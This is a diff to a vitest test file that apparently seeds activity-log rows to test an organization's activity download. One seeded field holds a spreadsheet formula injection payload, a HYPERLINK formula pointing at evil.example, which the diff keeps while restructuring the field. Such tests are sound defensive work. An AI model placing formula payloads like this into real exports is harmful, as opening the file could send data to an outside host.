@@ -1,3 +1,4 @@
+import { randomUUID } from 'node:crypto'
 import { downloadActivity, listOrganizationActivity } from '@accord/contract/activity.ts'
 import { updateOrganization } from '@accord/contract/organizations.ts'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
@@ -27,7 +28,10 @@ function grow(rows: number) {
         organizationId,
         author: { kind: 'person', userId: owner.id, profileId: owner.profileId },
         device: { address: '203.0.113.9', agent: 'curl/8' },
-        detail: { network: `=HYPERLINK("https://evil.example?${row}")` },
+        detail: {
+          on: { network: randomUUID() },
+          network: `=HYPERLINK("https://evil.example?${row}")`,
+        },
       })
     }
   })
